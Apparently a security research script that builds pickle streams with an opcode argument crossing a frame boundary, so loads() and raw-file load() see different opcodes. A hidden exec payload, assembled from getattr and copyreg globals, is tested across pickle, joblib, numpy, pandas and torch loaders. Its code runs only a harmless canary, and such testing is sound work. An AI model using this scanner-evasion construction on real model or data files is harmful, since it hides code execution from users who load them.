"""One stream, two readings: an opcode whose argument crosses the end of its frame.

CPython's C unpickler keeps the rest of a frame where it reads from memory or can ``peek`` that far,
and drops it where it cannot. What stands after the crossing then means one thing to ``loads`` and
another to ``load`` of a raw file. Run as a program, it loads such streams in every way and prints, as
JSON, for which of them the hidden half ran.
"""

from __future__ import annotations

import gzip
import io
import json
import pickle
import struct
import sys
import zipfile
from collections.abc import Callable
from importlib.util import find_spec
from pathlib import Path
from typing import Any

# safeload arrives here


def named(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def text(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def crossing(dropped: bytes, kept: bytes, padding: int) -> bytes:
    """What readers that drop the rest of a frame see, and what the others do; both to the last byte.

    BINBYTES has a length of four bytes and the frame ends behind the second. To those who keep them,
    the length is that of ``hidden``; to the others zero, and ``hidden`` is read as opcodes.
    """
    rest = kept + b"."
    hidden = bytes(2) + pickle.POP + dropped + pickle.BINBYTES + struct.pack("<I", len(rest))
    frame = pickle.BINBYTES + struct.pack("<I", padding) + bytes(padding) + pickle.POP
    frame += pickle.BINBYTES + struct.pack("<H", len(hidden))
    return (
        pickle.PROTO + b"\x04" + pickle.FRAME + struct.pack("<Q", len(frame)) + frame
        + bytes(2) + hidden + rest + pickle.POP + pickle.NONE + pickle.STOP
    )  # fmt: skip


def payload(canary: str) -> tuple[bytes, bytes]:
    """Names alone, all of them listed; and an ``exec`` that is made of them."""
    getattr_, function = named("builtins", "getattr"), named("copyreg", "_reconstructor")
    names = getattr_ + pickle.POP + function + pickle.POP
    builtins = getattr_ + b"(" + function + text("__builtins__") + b"tR"
    run = getattr_ + b"(" + builtins + text("get") + b"tR" + text("exec") + b"\x85R"
    run += text(f"open({canary!r}, 'w').close()") + b"\x85R"
    return names, run


class Own:
    """A file of the user's making."""

    def __init__(self, data: bytes) -> None:
        self.inner = io.BytesIO(data)
        self.read, self.readline = self.inner.read, self.inner.readline


class OwnPeek(Own):
    def peek(self, size: int) -> bytes:
        return self.inner.getvalue()[self.inner.tell() :][:size]


def written(data: bytes, name: str) -> str:
    Path(name).write_bytes(data)
    return name


def opened(data: bytes, buffering: int) -> Any:
    return open(written(data, "crossed.pkl"), "rb", buffering)


WAYS: dict[str, Callable[[bytes], Any]] = {
    "loads": pickle.loads,
    "loads of bytearray": lambda data: pickle.loads(bytearray(data)),
    "BytesIO": lambda data: pickle.load(io.BytesIO(data)),
    "file": lambda data: pickle.load(opened(data, -1)),
    "file with a small buffer": lambda data: pickle.load(opened(data, 16)),
    "raw file": lambda data: pickle.load(opened(data, 0)),
    "gzip": lambda data: pickle.load(gzip.open(io.BytesIO(gzip.compress(data)))),
    "user's file": lambda data: pickle.load(Own(data)),
    "user's file with peek": lambda data: pickle.load(OwnPeek(data)),
    "Unpickler": lambda data: pickle.Unpickler(opened(data, -1)).load(),
    "Python unpickler": lambda data: pickle._load(io.BytesIO(data)),  # type: ignore[attr-defined]
}


def in_libraries() -> dict[str, Callable[[bytes], Any]]:
    """The same through the libraries that are here."""
    ways: dict[str, Callable[[bytes], Any]] = {}
    if find_spec("joblib"):
        import joblib

        ways["joblib"] = lambda data: joblib.load(written(data, "a.joblib"))
        ways["joblib, gzip"] = lambda data: joblib.load(written(gzip.compress(data), "b.joblib"))
        ways["joblib, file"] = lambda data: joblib.load(io.BytesIO(data))
    if find_spec("pandas"):
        import numpy as np
        import pandas as pd

        header = b"\x93NUMPY\x01\x00" + struct.pack("<H", 118)
        header += b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
        ways["numpy"] = lambda data: np.load(written(header + data, "a.npy"), allow_pickle=True)
        ways["pandas"] = lambda data: pd.read_pickle(written(data, "a.pkl"))
        ways["pandas, gzip"] = lambda data: pd.read_pickle(written(gzip.compress(data), "a.pkl.gz"))
    if find_spec("torch"):
        import torch

        ways["torch"] = lambda data: torch.load(zipped(data, "a.pt"), weights_only=False)
    return ways


def zipped(data: bytes, name: str) -> str:
    with zipfile.ZipFile(name, "w") as archive:
        for member, content in (("data.pkl", data), ("byteorder", b"little"), ("version", b"3\n")):
            archive.writestr(f"a/{member}", content)
    return name


PADDINGS = (0, 3_000, 40_000, 70_000, 140_000, 300_000)


def main() -> None:
    fired, ways = {}, WAYS | in_libraries()
    for padding in PADDINGS:
        for flip in (False, True):
            for way, load in ways.items():
                canary = Path("canary")
                names, run = payload(str(canary))
                halves = (run, names) if flip else (names, run)
                stream = crossing(*halves, padding)
                try:
                    load(stream)
                except Exception as error:  # noqa: BLE001 - refused, or broken: both are fine
                    print(way, padding, flip, repr(error)[:99], file=sys.stderr)
                label = f"{way}, {padding} bytes, {'dropped' if flip else 'kept'} half is hostile"
                fired[label] = canary.exists()
                canary.unlink(missing_ok=True)
    print(json.dumps(fired))


if __name__ == "__main__":
    main()
